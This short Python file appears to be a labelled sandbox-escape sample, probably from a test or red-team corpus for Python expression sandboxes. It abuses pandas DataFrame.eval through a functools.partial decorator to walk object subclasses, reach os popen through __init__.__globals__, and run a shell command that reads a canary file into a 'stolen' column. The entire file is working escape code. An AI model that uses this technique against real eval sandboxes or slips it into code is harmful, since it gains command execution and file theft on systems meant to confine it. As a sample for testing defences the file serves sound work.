# class: decorator_abuse
# technique: a decorator built from functools.partial(frame.agg, 'eval', 0, ...): the decorated function returns the expression, the decorator evaluates it at definition time (DataFrame.eval reached as functools.partial(frame.agg, 'eval')(...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return functools.partial(frame.agg, "eval")(0, expr, local_dict=names)

u = "_" * 2



@(lambda fn: functools.partial(frame.agg, "eval", 0, local_dict={"o": [object]})(fn()))
def classes():
    return "@o[0]." + u + "subclasses" + u + "()"


wrap_close = [c for c in classes if "wrap_close" in str(c)][0]
g = ev("@w[0]." + u + "init" + u + "." + u + "globals" + u, w=[wrap_close])
df = pd.DataFrame({"stolen": [g["popen"]("cat {{CANARY_FILE}}").read()]})
